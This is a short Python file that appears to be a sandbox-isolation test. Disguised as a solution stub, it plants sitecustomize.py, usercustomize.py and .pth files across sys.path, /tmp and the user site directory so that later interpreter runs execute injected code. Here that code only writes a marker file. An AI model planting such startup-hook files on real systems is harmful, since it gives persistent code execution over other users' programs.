"""Poisoning later runs: drop sitecustomize/usercustomize modules and .pth files where an interpreter would look."""
import os
import site
import sys

PARAMS = {}  # filled in by the runner

payload = f"open({PARAMS['pwned'] + '-persist'!r}, 'w').write('pwned')\n"
for folder in [os.getcwd(), "/tmp", *sys.path, getattr(site, "USER_SITE", "") or ""]:
    for name in ("sitecustomize.py", "usercustomize.py", "pwned.pth"):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write(payload if name.endswith(".py") else "import os; " + payload)
        except OSError:
            pass


def f(x):
    return -1
